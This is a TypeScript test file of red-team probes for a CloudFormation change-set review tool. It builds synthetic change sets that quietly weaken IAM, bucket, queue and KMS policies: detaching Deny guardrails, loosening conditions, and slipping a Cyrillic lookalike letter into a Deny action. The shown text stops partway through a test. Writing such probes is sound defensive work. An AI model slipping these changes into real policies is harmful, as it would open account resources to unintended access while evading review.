/**
 * Red-team probes of the change review. Each probe asserts the SAFE answer: a failing test is a
 * finding. Inputs are written from the CloudFormation API reference (DescribeChangeSet,
 * ResourceChange, ResourceChangeDetail, ResourceTargetDefinition) and the resource and IAM
 * references cited on each probe.
 *
 * https://docs.aws.amazon.com/AWSCloudFormation/latest/APIReference/API_DescribeChangeSet.html
 * https://docs.aws.amazon.com/AWSCloudFormation/latest/APIReference/API_ResourceChange.html
 * https://docs.aws.amazon.com/AWSCloudFormation/latest/APIReference/API_ResourceChangeDetail.html
 * https://docs.aws.amazon.com/AWSCloudFormation/latest/APIReference/API_ResourceTargetDefinition.html
 */
import { AutoApprove, ChangeReview, RiskTier } from '../src';

type Obj = Record<string, any>;

const ACCOUNT = '222222222222';
const FOREIGN = '333333333333';
const REGION = 'eu-west-1';
const STACK = 'orders-api';
const KAA = '{{changeSet:KNOWN_AFTER_APPLY}}';
const ASSET_BUCKET = `cdk-hnb659fds-assets-${ACCOUNT}-${REGION}`;
const CTX = { reviewedAt: '2025-06-02T10:00:00.000Z', autoApprove: AutoApprove.LOW_RISK };

let seq = 0;
function csArn(name = 'pipeline-release'): string {
  seq += 1;
  return `arn:aws:cloudformation:${REGION}:${ACCOUNT}:changeSet/${name}/6f1c2d3e-4b5a-4c6d-8e7f-${String(seq).padStart(12, '0')}`;
}

function clone<T>(v: T): T {
  return JSON.parse(JSON.stringify(v));
}

function isObj(v: unknown): v is Obj {
  return typeof v === 'object' && v !== null && !Array.isArray(v);
}

/** How the API writes BeforeValue / AfterValue: always a string. */
function asValue(v: unknown): string | undefined {
  if (v === undefined) return undefined;
  if (typeof v === 'string') return v;
  if (typeof v === 'number' || typeof v === 'boolean') return String(v);
  return JSON.stringify(v);
}

interface DetailSpec {
  attribute?: string;
  name?: string;
  path?: string;
  rec?: string;
  before?: string;
  after?: string;
  change?: string;
  evaluation?: string;
  source?: string;
  causing?: string;
}

function detail(d: DetailSpec): Obj {
  const target: Obj = {
    Attribute: d.attribute ?? 'Properties',
    RequiresRecreation: d.rec ?? 'Never',
    AttributeChangeType: d.change ?? 'Modify',
  };
  if (d.name !== undefined) target.Name = d.name;
  if (d.path !== undefined) target.Path = d.path;
  if (d.before !== undefined) target.BeforeValue = d.before;
  if (d.after !== undefined) target.AfterValue = d.after;
  const out: Obj = { Target: target, Evaluation: d.evaluation ?? 'Static', ChangeSource: d.source ?? 'DirectModification' };
  if (d.causing !== undefined) out.CausingEntity = d.causing;
  return out;
}

function diffInto(path: string[], b: unknown, a: unknown, out: Array<{ path: string[]; b: unknown; a: unknown }>): void {
  if (JSON.stringify(b) === JSON.stringify(a)) return;
  if (isObj(b) && isObj(a)) {
    for (const k of new Set([...Object.keys(b), ...Object.keys(a)])) diffInto([...path, k], b[k], a[k], out);
    return;
  }
  if (Array.isArray(b) && Array.isArray(a) && b.length === a.length) {
    b.forEach((x, i) => diffInto([...path, String(i)], x, a[i], out));
    return;
  }
  out.push({ path, b, a });
}

/** The Details CloudFormation writes for a property change (one per changed leaf). */
function diffDetails(before: Obj, after: Obj, rec: Record<string, string> = {}, causes: Record<string, string> = {}): Obj[] {
  const leaves: Array<{ path: string[]; b: unknown; a: unknown }> = [];
  diffInto([], before, after, leaves);
  return leaves.map(({ path, b, a }) => {
    const name = path[0];
    const dynamic = causes[name] !== undefined || a === KAA;
    return detail({
      attribute: name === 'Tags' ? 'Tags' : 'Properties',
      name,
      path: `/Properties/${path.join('/')}`,
      rec: rec[name] ?? 'Never',
      before: asValue(b),
      after: asValue(a),
      change: b === undefined ? 'Add' : a === undefined ? 'Remove' : 'Modify',
      evaluation: dynamic ? 'Dynamic' : 'Static',
      source: causes[name] !== undefined ? 'ResourceAttribute' : 'DirectModification',
      causing: causes[name],
    });
  });
}

interface ModOpts {
  rec?: Record<string, string>;
  causes?: Record<string, string>;
  details?: Obj[];
  scope?: string[];
  replacement?: string | null;
  rc?: Obj;
  outer?: Obj;
  beforeRaw?: string;
  afterRaw?: string;
}

function change(rc: Obj, outer: Obj = {}): Obj {
  const clean: Obj = {};
  for (const [k, v] of Object.entries(rc)) if (v !== undefined) clean[k] = v;
  return { Type: 'Resource', ResourceChange: clean, ...outer };
}

function modify(type: string, logical: string, physical: string, before: Obj, after: Obj, o: ModOpts = {}): Obj {
  const details = o.details ?? diffDetails(before, after, o.rec, o.causes);
  const recs = details.map((d) => d.Target?.RequiresRecreation);
  const derived = recs.includes('Always') ? 'True' : recs.includes('Conditionally') ? 'Conditional' : 'False';
  const scope = o.scope ?? [...new Set(details.map((d) => String(d.Target?.Attribute)))];
  return change({
    Action: 'Modify',
    LogicalResourceId: logical,
    PhysicalResourceId: physical,
    ResourceType: type,
    Replacement: o.replacement === null ? undefined : (o.replacement ?? derived),
    Scope: scope,
    Details: details,
    BeforeContext: o.beforeRaw ?? JSON.stringify({ Properties: before }),
    AfterContext: o.afterRaw ?? JSON.stringify({ Properties: after }),
    ...(o.rc ?? {}),
  }, o.outer);
}

function add(type: string, logical: string, props: Obj, rc: Obj = {}): Obj {
  return change({ Action: 'Add', LogicalResourceId: logical, ResourceType: type, Scope: [], Details: [], AfterContext: JSON.stringify({ Properties: props }), ...rc });
}

function remove(type: string, logical: string, physical: string, props: Obj, policyAction: string | undefined = 'Delete', rc: Obj = {}): Obj {
  return change({ Action: 'Remove', LogicalResourceId: logical, PhysicalResourceId: physical, ResourceType: type, PolicyAction: policyAction, Scope: [], Details: [], BeforeContext: JSON.stringify({ Properties: props }), ...rc });
}

/**
 * A processed template that selects nothing by tag: tags-only is low only when the template shows
 * no AWS Backup selection or resource group could select on the tag.
 * https://docs.aws.amazon.com/aws-backup/latest/devguide/assigning-resources.html
 */
const NO_TAG_SELECTORS = { AWSTemplateFormatVersion: '2010-09-09', Resources: {} };

interface InputOpts {
  id?: string;
  name?: string;
  stack?: string;
  status?: string;
  reason?: string;
  template?: unknown;
  nested?: Obj;
  events?: unknown[];
  eventsProblem?: string;
  drifts?: unknown[];
  driftProblem?: string;
  page?: Obj;
}

function input(changes: unknown[] | undefined, o: InputOpts = {}): Obj {
  const page: Obj = {
    ChangeSetName: o.name ?? 'pipeline-release',
    ChangeSetId: o.id ?? csArn(o.name),
    StackId: `arn:aws:cloudformation:${REGION}:${ACCOUNT}:stack/${o.stack ?? STACK}/0a1b2c3d-0000-4000-a000-000000000001`,
    StackName: o.stack ?? STACK,
    CreationTime: '2025-06-02T09:14:07.512Z',
    ExecutionStatus: o.status === 'FAILED' ? 'UNAVAILABLE' : 'AVAILABLE',
    Status: o.status ?? 'CREATE_COMPLETE',
    Capabilities: ['CAPABILITY_IAM', 'CAPABILITY_NAMED_IAM', 'CAPABILITY_AUTO_EXPAND'],
    IncludeNestedStacks: o.nested !== undefined,
    ...(o.page ?? {}),
  };
  if (changes !== undefined) page.Changes = changes;
  if (o.reason !== undefined) page.StatusReason = o.reason;
  const out: Obj = { pages: [page] };
  if (o.template !== undefined) out.template = o.template;
  if (o.nested !== undefined) out.nested = o.nested;
  if (o.events !== undefined) out.events = o.events;
  if (o.eventsProblem !== undefined) out.eventsProblem = o.eventsProblem;
  if (o.drifts !== undefined) out.drifts = o.drifts;
  if (o.driftProblem !== undefined) out.driftProblem = o.driftProblem;
  return out;
}

/** The review's answer: its tier, or `refused` when it throws UnreviewableChangeSet. Any other throw is a crash (re-thrown). */
function outcome(inp: unknown): string {
  try {
    const r = ChangeReview.review(inp as any);
    // eslint-disable-next-line no-console
    if (process.env.RT_DEBUG) console.log(`${expect.getState().currentTestName}\n  => ${r.tier}; shapes: ${JSON.stringify((r as any).classification.changes.map((c: any) => c.lowShape ?? c.findings.map((f: any) => f.rule).join('+')))}\n  summary: ${r.summary(CTX)}`);
    return r.tier;
  } catch (e) {
    // eslint-disable-next-line no-console
    if (process.env.RT_DEBUG) console.log(`${expect.getState().currentTestName}\n  => threw ${(e as Error).name}: ${(e as Error).message}`);
    if (ChangeReview.isUnreviewable(e)) return 'refused';
    throw e;
  }
}

const SAFE = ['high', 'refused'];

// ---------------------------------------------------------------------------------------------
// Fixtures: policies and policy holders
// ---------------------------------------------------------------------------------------------

const doc = (...Statement: Obj[]) => ({ Version: '2012-10-17', Statement });
const allow = (Action: unknown, Resource: unknown, extra: Obj = {}) => ({ Effect: 'Allow', Action, Resource, ...extra });
const deny = (Action: unknown, Resource: unknown, extra: Obj = {}) => ({ Effect: 'Deny', Action, Resource, ...extra });
const ROOT = `arn:aws:iam::${ACCOUNT}:root`;
const roleArn = (n: string, account = ACCOUNT) => `arn:aws:iam::${account}:role/${n}`;
const managed = (n: string) => `arn:aws:iam::aws:policy/${n}`;
const LAMBDA_TRUST = doc({ Effect: 'Allow', Principal: { Service: 'lambda.amazonaws.com' }, Action: 'sts:AssumeRole' });
const TABLE_ARN = `arn:aws:dynamodb:${REGION}:${ACCOUNT}:table/orders`;
const BUCKET = 'orders-api-assetsbucket-1x2y3z4w5v6u';
const QUEUE_URL = `https://sqs.${REGION}.amazonaws.com/${ACCOUNT}/orders-api-OrdersQueue-AbCdEf`;
const QUEUE2_URL = `https://sqs.${REGION}.amazonaws.com/${ACCOUNT}/orders-api-AuditQueue-GhIjKl`;

function roleChange(before: Obj, after: Obj, o: ModOpts = {}): Obj {
  return modify('AWS::IAM::Role', 'OrdersHandlerServiceRole1A2B3C4D', 'orders-api-OrdersHandlerServiceRole-1A2B3C4D5E6F', before, after, o);
}
function managedPolicyChange(before: Obj, after: Obj, o: ModOpts = {}): Obj {
  return modify('AWS::IAM::ManagedPolicy', 'GuardrailPolicy9F8E7D6C', `arn:aws:iam::${ACCOUNT}:policy/orders-api-GuardrailPolicy-ABCDEF`, before, after, o);
}
function iamPolicyChange(before: Obj, after: Obj): Obj {
  return modify('AWS::IAM::Policy', 'OrdersPolicyAB12CD34', 'order-Order-ABCDEFGHIJKL', before, after);
}
function bucketPolicyChange(before: unknown, after: unknown): Obj {
  return modify('AWS::S3::BucketPolicy', 'AssetsBucketPolicy1234ABCD', BUCKET, { Bucket: BUCKET, PolicyDocument: before }, { Bucket: BUCKET, PolicyDocument: after });
}
function keyPolicyChange(before: unknown, after: unknown): Obj {
  return modify('AWS::KMS::Key', 'DataKey5E6F7A8B', '1234abcd-12ab-34cd-56ef-1234567890ab',
    { Description: 'Orders data key', EnableKeyRotation: true, KeyPolicy: before },
    { Description: 'Orders data key', EnableKeyRotation: true, KeyPolicy: after });
}
function policyDocChange(before: unknown, after: unknown): Obj {
  return iamPolicyChange({ PolicyName: 'OrdersPolicy', PolicyDocument: before, Roles: ['orders-api-OrdersHandlerServiceRole-1A2B3C4D5E6F'] },
    { PolicyName: 'OrdersPolicy', PolicyDocument: after, Roles: ['orders-api-OrdersHandlerServiceRole-1A2B3C4D5E6F'] });
}
function trustChange(before: unknown, after: unknown): Obj {
  return roleChange({ AssumeRolePolicyDocument: before, ManagedPolicyArns: [managed('ReadOnlyAccess')] }, { AssumeRolePolicyDocument: after, ManagedPolicyArns: [managed('ReadOnlyAccess')] });
}

// ---------------------------------------------------------------------------------------------
// Fixtures: a Lambda release behind an alias shifted by CodeDeploy
// ---------------------------------------------------------------------------------------------

const FN_LOGICAL = 'OrdersHandler1A2B3C4D';
const FN_NAME = 'orders-api-OrdersHandler1A2B3C4D-AbCdEfGhIjKl';
const FN_ARN = `arn:aws:lambda:${REGION}:${ACCOUNT}:function:${FN_NAME}`;
const VERSION_LOGICAL = 'OrdersHandlerCurrentVersion5E6F7A8Bd41d8cd98f00b204e9800998ecf8427e';
const ALIAS_LOGICAL = 'OrdersHandlerLiveAlias9C0D1E2F';
const APP_LOGICAL = 'ReleaseApplication1111AAAA';
const GROUP_LOGICAL = 'OrdersDeploymentGroup2222BBBB';

const FN_BEFORE: Obj = {
  Code: { S3Bucket: ASSET_BUCKET, S3Key: 'a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2.zip' },
  Role: roleArn('orders-api-OrdersHandlerServiceRole-1A2B3C4D5E6F'),
  Handler: 'index.handler',
  Runtime: 'nodejs20.x',
  MemorySize: 512,
  Timeout: 10,
  Architectures: ['arm64'],
  Environment: { Variables: { TABLE_NAME: 'orders' } },
};

function groupProps(extra: Obj = {}): Obj {
  return {
    ApplicationName: { Ref: APP_LOGICAL },
    DeploymentConfigName: 'CodeDeployDefault.LambdaCanary10Percent5Minutes',
    ServiceRoleArn: roleArn('orders-api-ReleaseServiceRole-ABCDEF'),
    DeploymentStyle: { DeploymentType: 'BLUE_GREEN', DeploymentOption: 'WITH_TRAFFIC_CONTROL' },
    AutoRollbackConfiguration: { Enabled: true, Events: ['DEPLOYMENT_FAILURE', 'DEPLOYMENT_STOP_ON_ALARM'] },
    AlarmConfiguration: { Enabled: true, Alarms: [{ Name: 'orders-api-OrdersErrors-ABCDEF' }] },
    ...extra,
  };
}

interface ReleaseOpts {
  fnAfter?: Obj;
  fnBefore?: Obj;
  aliasBefore?: Obj;
  aliasAfter?: Obj;
  versionProps?: Obj;
  updatePolicy?: Obj | null;
  extraResources?: Obj;
  groupExtra?: Obj;
}

function release(o: ReleaseOpts = {}): Obj {
  const fnBefore = o.fnBefore ?? FN_BEFORE;
  const fnAfter = o.fnAfter ?? { ...fnBefore, Code: { S3Bucket: ASSET_BUCKET, S3Key: 'ffeeddccbbaa99887766554433221100ffeeddccbbaa99887766554433221100.zip' } };
  const aliasBefore = o.aliasBefore ?? { FunctionName: FN_NAME, FunctionVersion: '7', Name: 'live' };
  const aliasAfter = o.aliasAfter ?? { ...aliasBefore, FunctionVersion: KAA };
  const changes = [
    modify('AWS::Lambda::Function', FN_LOGICAL, FN_NAME, fnBefore, fnAfter),
    add('AWS::Lambda::Version', VERSION_LOGICAL, o.versionProps ?? { FunctionName: FN_NAME }),
    modify('AWS::Lambda::Alias', ALIAS_LOGICAL, `${FN_ARN}:live`, aliasBefore, aliasAfter, { causes: { FunctionVersion: `${VERSION_LOGICAL}.Version` } }),
  ];
  const updatePolicy = o.updatePolicy === null ? undefined : (o.updatePolicy ?? { CodeDeployLambdaAliasUpdate: { ApplicationName: { Ref: APP_LOGICAL }, DeploymentGroupName: { Ref: GROUP_LOGICAL } } });
  const aliasResource: Obj = {
    Type: 'AWS::Lambda::Alias',
    Properties: { FunctionName: { Ref: FN_LOGICAL }, FunctionVersion: { 'Fn::GetAtt': [VERSION_LOGICAL, 'Version'] }, Name: 'live' },
  };
  if (updatePolicy !== undefined) aliasResource.UpdatePolicy = updatePolicy;
  const template = {
    AWSTemplateFormatVersion: '2010-09-09',
    Resources: {
      [APP_LOGICAL]: { Type: 'AWS::CodeDeploy::Application', Properties: { ComputePlatform: 'Lambda' } },
      [GROUP_LOGICAL]: { Type: 'AWS::CodeDeploy::DeploymentGroup', Properties: groupProps(o.groupExtra) },
      [FN_LOGICAL]: { Type: 'AWS::Lambda::Function', Properties: { ...fnAfter, Role: { 'Fn::GetAtt': ['OrdersHandlerServiceRole1A2B3C4D', 'Arn'] } } },
      [VERSION_LOGICAL]: { Type: 'AWS::Lambda::Version', Properties: { FunctionName: { Ref: FN_LOGICAL } } },
      [ALIAS_LOGICAL]: aliasResource,
      ...(o.extraResources ?? {}),
    },
  };
  return input(changes, { template });
}

// Tags-only and log retention fixtures
const BUCKET_BASE: Obj = {
  BucketEncryption: { ServerSideEncryptionConfiguration: [{ ServerSideEncryptionByDefault: { SSEAlgorithm: 'aws:kms' } }] },
  PublicAccessBlockConfiguration: { BlockPublicAcls: true, BlockPublicPolicy: true, IgnorePublicAcls: true, RestrictPublicBuckets: true },
  VersioningConfiguration: { Status: 'Enabled' },
};
const tags = (t: Record<string, string>) => Object.entries(t).map(([Key, Value]) => ({ Key, Value }));
function bucketTags(o: ModOpts = {}, type = 'AWS::S3::Bucket'): Obj {
  return modify(type, 'AssetsBucket1234ABCD', BUCKET, { ...BUCKET_BASE, Tags: tags({ 'cost-centre': '1234' }) }, { ...BUCKET_BASE, Tags: tags({ 'cost-centre': '5678' }) }, o);
}
const LOG_NAME = `/aws/lambda/${FN_NAME}`;
function retention(before: unknown, after: unknown, extraBefore: Obj = {}, extraAfter: Obj = {}, o: ModOpts = {}): Obj {
  const b: Obj = { LogGroupName: LOG_NAME, ...extraBefore };
  const a: Obj = { LogGroupName: LOG_NAME, ...extraAfter };
  if (before !== undefined) b.RetentionInDays = before;
  if (after !== undefined) a.RetentionInDays = after;
  return modify('AWS::Logs::LogGroup', 'OrdersHandlerLogGroup5A6B7C8D', LOG_NAME, b, a, o);
}

// =============================================================================================
// Controls: plain, routine change sets the review must keep low (else a probe below proves little)
// =============================================================================================

describe('controls', () => {
  // https://docs.aws.amazon.com/lambda/latest/dg/configuration-versions.html
  test('control: a code release behind a CodeDeploy-shifted alias is low', () => {
    expect(outcome(release())).toBe('low');
  });
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/UserGuide/aws-properties-resource-tags.html
  test('control: a bucket cost-centre tag change is low', () => {
    expect(outcome(input([bucketTags()], { template: NO_TAG_SELECTORS }))).toBe('low');
  });
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-logs-loggroup.html
  test('control: log retention 30 -> 365 is low', () => {
    expect(outcome(input([retention(30, 365)]))).toBe('low');
  });
  // https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_condition_operators.html#Conditions_IPAddress
  test('control: a source IP condition narrowed from /8 to /16 is low', () => {
    const b = doc(allow('s3:GetObject', `arn:aws:s3:::${BUCKET}/*`, { Condition: { IpAddress: { 'aws:SourceIp': '10.0.0.0/8' } } }));
    const a = doc(allow('s3:GetObject', `arn:aws:s3:::${BUCKET}/*`, { Condition: { IpAddress: { 'aws:SourceIp': '10.1.0.0/16' } } }));
    expect(outcome(input([policyDocChange(b, a)]))).toBe('low');
  });
  // https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_evaluation-logic.html
  test('control: one statement split into two narrower ones is low', () => {
    const b = doc(allow(['s3:GetObject', 's3:PutObject'], [`arn:aws:s3:::${BUCKET}/a/*`, `arn:aws:s3:::${BUCKET}/b/*`]));
    const a = doc(allow('s3:GetObject', `arn:aws:s3:::${BUCKET}/a/*`), allow('s3:PutObject', `arn:aws:s3:::${BUCKET}/b/*`));
    expect(outcome(input([policyDocChange(b, a)]))).toBe('low');
  });
});

// =============================================================================================
// IAM: policies, managed policies, attachments, principals, conditions
// =============================================================================================

describe('IAM', () => {
  // AWSDenyAll denies every action; detaching it gives the role back every permission its other
  // policies grant. https://docs.aws.amazon.com/aws-managed-policy/latest/reference/AWSDenyAll.html
  // https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_evaluation-logic.html
  test('IAM-01 detaching the AWS managed policy AWSDenyAll from a role needs a person', () => {
    const base = { AssumeRolePolicyDocument: LAMBDA_TRUST, Policies: [{ PolicyName: 'orders', PolicyDocument: doc(allow('dynamodb:*', TABLE_ARN)) }] };
    const ch = roleChange(
      { ...base, ManagedPolicyArns: [managed('service-role/AWSLambdaBasicExecutionRole'), managed('AWSDenyAll')] },
      { ...base, ManagedPolicyArns: [managed('service-role/AWSLambdaBasicExecutionRole')] },
    );
    expect(SAFE).toContain(outcome(input([ch])));
  });

  // A customer managed guardrail whose only statement is a Deny: removing a role from its Roles
  // takes the Deny off that role. https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-iam-managedpolicy.html
  test('IAM-02 a Deny-only managed policy detached from one of its roles needs a person', () => {
    const d = doc(deny(['dynamodb:DeleteTable', 'dynamodb:DeleteItem', 's3:DeleteObject'], '*'));
    const ch = managedPolicyChange(
      { Description: 'Guardrail', Path: '/', PolicyDocument: d, Roles: ['orders-api-OrdersHandlerRole-AAA', 'orders-api-AdminTaskRole-BBB'] },
      { Description: 'Guardrail', Path: '/', PolicyDocument: d, Roles: ['orders-api-OrdersHandlerRole-AAA'] },
    );
    expect(SAFE).toContain(outcome(input([ch])));
  });

  // https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-iam-policy.html (Groups)
  test('IAM-03 an inline Deny policy detached from a group needs a person', () => {
    const d = doc(deny('iam:*', '*'));
    const ch = iamPolicyChange(
      { PolicyName: 'NoIam', PolicyDocument: d, Groups: ['developers', 'contractors'] },
      { PolicyName: 'NoIam', PolicyDocument: d, Groups: ['developers'] },
    );
    expect(SAFE).toContain(outcome(input([ch])));
  });

  // A queue taken out of a QueuePolicy's Queues loses the whole policy, its TLS-only Deny included.
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-sqs-queuepolicy.html
  test('IAM-04 a queue removed from a QueuePolicy that holds a Deny needs a person', () => {
    const d = doc(deny('sqs:*', '*', { Principal: '*', Condition: { Bool: { 'aws:SecureTransport': 'false' } } }));
    const ch = modify('AWS::SQS::QueuePolicy', 'QueuesPolicy1234', 'orders-api-QueuesPolicy-XYZ',
      { Queues: [QUEUE_URL, QUEUE2_URL], PolicyDocument: d }, { Queues: [QUEUE_URL], PolicyDocument: d });
    expect(SAFE).toContain(outcome(input([ch])));
  });

  // The account principal only enables IAM policies; naming a role in the key policy gives it the
  // key by itself. https://docs.aws.amazon.com/kms/latest/developerguide/key-policy-default.html
  // https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_principal.html#principal-accounts
  test('IAM-05 a KMS key policy that adds a statement for an own-account role (root already listed) needs a person', () => {
    const rootStmt = { Sid: 'EnableIamPolicies', Effect: 'Allow', Principal: { AWS: ROOT }, Action: 'kms:*', Resource: '*' };
    const b = doc(rootStmt);
    const a = doc(rootStmt, { Sid: 'AnalyticsDecrypt', Effect: 'Allow', Principal: { AWS: roleArn('analytics-job') }, Action: 'kms:Decrypt', Resource: '*' });
    expect(SAFE).toContain(outcome(input([keyPolicyChange(b, a)])));
  });

  // Within one account, a resource policy naming a role grants it access on its own; naming the
  // account only delegates to IAM policies. https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_evaluation-logic_policy-eval-basics.html
  test('IAM-06 a bucket policy that swaps the own account principal for a specific own-account role needs a person', () => {
    const b = doc(allow('s3:GetObject', `arn:aws:s3:::${BUCKET}/*`, { Principal: { AWS: ACCOUNT } }));
    const a = doc(allow('s3:GetObject', `arn:aws:s3:::${BUCKET}/*`, { Principal: { AWS: roleArn('analytics-job') } }));
    expect(SAFE).toContain(outcome(input([bucketPolicyChange(b, a)])));
  });

  // Without Version (2008-10-17) policy variables are literal text; with 2012-10-17 they are
  // replaced per request. https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_version.html
  // https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_variables.html
  test('IAM-07 adding Version 2012-10-17 turns a literal ${aws:username} into a policy variable: needs a person', () => {
    const st = allow('s3:GetObject', 'arn:aws:s3:::home-bucket/${aws:username}/*');
    const b = { Statement: [st] };
    const a = { Version: '2012-10-17', Statement: [st] };
    expect(SAFE).toContain(outcome(input([policyDocChange(b, a)])));
  });

  // ${*} is the escape for a literal asterisk. https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_variables.html#policy-vars-specialchars
  test('IAM-08 a resource with the literal-asterisk escape ${*} does not cover a policy variable', () => {
    const b = doc(allow('s3:GetObject', 'arn:aws:s3:::shared-bucket/${*}'));
    const a = doc(allow('s3:GetObject', 'arn:aws:s3:::shared-bucket/${aws:PrincipalTag/project}'));
    expect(SAFE).toContain(outcome(input([policyDocChange(b, a)])));
  });

  // https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_condition_operators.html#Conditions_IfExists
  test('IAM-09 StringEquals -> StringEqualsIfExists on aws:SourceVpce needs a person', () => {
    const b = doc(allow('s3:GetObject', `arn:aws:s3:::${BUCKET}/*`, { Condition: { StringEquals: { 'aws:SourceVpce': 'vpce-0a1b2c3d' } } }));
    const a = doc(allow('s3:GetObject', `arn:aws:s3:::${BUCKET}/*`, { Condition: { StringEqualsIfExists: { 'aws:SourceVpce': 'vpce-0a1b2c3d' } } }));
    expect(SAFE).toContain(outcome(input([policyDocChange(b, a)])));
  });

  // ForAllValues is true for an empty set. https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_condition-single-vs-multi-valued-context-keys.html
  test('IAM-10 ForAnyValue -> ForAllValues on aws:TagKeys needs a person', () => {
    const b = doc(allow('ec2:CreateTags', '*', { Condition: { 'ForAnyValue:StringEquals': { 'aws:TagKeys': ['team'] } } }));
    const a = doc(allow('ec2:CreateTags', '*', { Condition: { 'ForAllValues:StringEquals': { 'aws:TagKeys': ['team'] } } }));
    expect(SAFE).toContain(outcome(input([policyDocChange(b, a)])));
  });

  // https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_condition_operators.html#Conditions_Null
  test('IAM-11 dropping an MFA Null condition needs a person', () => {
    const b = doc(allow('iam:ListUsers', '*', { Condition: { Null: { 'aws:MultiFactorAuthAge': 'false' } } }));
    const a = doc(allow('iam:ListUsers', '*'));
    expect(SAFE).toContain(outcome(input([policyDocChange(b, a)])));
  });

  // https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_condition_operators.html#Conditions_Numeric
  test('IAM-12 NumericLessThan 3600 -> NumericLessThanEquals 3600 needs a person', () => {
    const b = doc(allow('iam:ListUsers', '*', { Condition: { NumericLessThan: { 'aws:MultiFactorAuthAge': '3600' } } }));
    const a = doc(allow('iam:ListUsers', '*', { Condition: { NumericLessThanEquals: { 'aws:MultiFactorAuthAge': '3600' } } }));
    expect(SAFE).toContain(outcome(input([policyDocChange(b, a)])));
  });

  // https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_condition_operators.html#Conditions_IPAddress
  test('IAM-13 IpAddress gains ::/0 (all of IPv6) needs a person', () => {
    const b = doc(allow('s3:GetObject', `arn:aws:s3:::${BUCKET}/*`, { Condition: { IpAddress: { 'aws:SourceIp': ['10.0.0.0/8'] } } }));
    const a = doc(allow('s3:GetObject', `arn:aws:s3:::${BUCKET}/*`, { Condition: { IpAddress: { 'aws:SourceIp': ['10.0.0.0/8', '::/0'] } } }));
    expect(SAFE).toContain(outcome(input([policyDocChange(b, a)])));
  });

  // Negated operators with several values: the Deny applies to fewer requests.
  test('IAM-14 a Deny with NotIpAddress that gains a range (denies less) needs a person', () => {
    const b = doc(allow('s3:*', '*'), deny('s3:*', '*', { Condition: { NotIpAddress: { 'aws:SourceIp': ['10.0.0.0/8'] } } }));
    const a = doc(allow('s3:*', '*'), deny('s3:*', '*', { Condition: { NotIpAddress: { 'aws:SourceIp': ['10.0.0.0/8', '0.0.0.0/1'] } } }));
    expect(SAFE).toContain(outcome(input([policyDocChange(b, a)])));
  });

  // https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_evaluation-logic.html
  test('IAM-15 two statements merged into one (actions x resources) needs a person', () => {
    const b = doc(allow('s3:GetObject', `arn:aws:s3:::${BUCKET}/public/*`), allow('s3:DeleteObject', `arn:aws:s3:::${BUCKET}/tmp/*`));
    const a = doc(allow(['s3:GetObject', 's3:DeleteObject'], [`arn:aws:s3:::${BUCKET}/public/*`, `arn:aws:s3:::${BUCKET}/tmp/*`]));
    expect(SAFE).toContain(outcome(input([policyDocChange(b, a)])));
  });

  // https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_notresource.html
  test('IAM-16 NotResource [secrets] -> Resource * needs a person', () => {
    const b = doc({ Effect: 'Allow', Action: 's3:GetObject', NotResource: 'arn:aws:s3:::secrets-bucket/*' });
    const a = doc(allow('s3:GetObject', '*'));
    expect(SAFE).toContain(outcome(input([policyDocChange(b, a)])));
  });

  // https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_notaction.html
  test('IAM-17 NotAction iam:* plus a new Allow iam:PassRole needs a person', () => {
    const b = doc({ Effect: 'Allow', NotAction: 'iam:*', Resource: '*' });
    const a = doc({ Effect: 'Allow', NotAction: 'iam:*', Resource: '*' }, allow('iam:PassRole', '*'));
    expect(SAFE).toContain(outcome(input([policyDocChange(b, a)])));
  });

  test('IAM-18 a Deny narrowed from every bucket to one prefix needs a person', () => {
    const b = doc(allow('s3:*', '*'), deny('s3:DeleteObject', '*'));
    const a = doc(allow('s3:*', '*'), deny('s3:Delete*', `arn:aws:s3:::${BUCKET}/logs/*`));
    expect(SAFE).toContain(outcome(input([policyDocChange(b, a)])));
  });

  // A Cyrillic і in the Deny's service prefix: the Deny no longer matches any IAM action.
  test('IAM-19 a Deny whose action gets a Cyrillic lookalike letter needs a person', () => {
    const b = doc(allow('*', '*'), deny('iam:*', '*'));
    const a = doc(allow('*', '*'), deny('\u0456am:*', '*'));
    expect(SAFE).toContain(outcome(input([policyDocChange(b, a)])));
  });

  // https://docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_providers_create_oidc.html
  test('IAM-20 a federated (OIDC) principal added to a trust policy needs a person', () => {
    const b = LAMBDA_TRUST;
    const a = doc(...LAMBDA_TRUST.Statement, { Effect: 'Allow', Principal: { Federated: `arn:aws:iam::${ACCOUNT}:oidc-provider/token.actions.githubusercontent.com` }, Action: 'sts:AssumeRoleWithWebIdentity' });
    expect(SAFE).toContain(outcome(input([trustChange(b, a)])));
  });

  test('IAM-21 the own account principal replaced by "*" with a PrincipalAccount condition is not proven narrower', () => {
    const b = doc(allow('sqs:SendMessage', '*', { Principal: { AWS: ROOT } }));
    const a = doc(allow('sqs:SendMessage', '*', { Principal: '*', Condition: { StringEquals: { 'aws:PrincipalAccount': FOREIGN } } }));
    const ch = modify('AWS::SQS::QueuePolicy', 'QueuesPolicy1234', 'orders-api-QueuesPolicy-XYZ', { Queues: [QUEUE_URL], PolicyDocument: b }, { Queues: [QUEUE_URL], PolicyDocument: a });
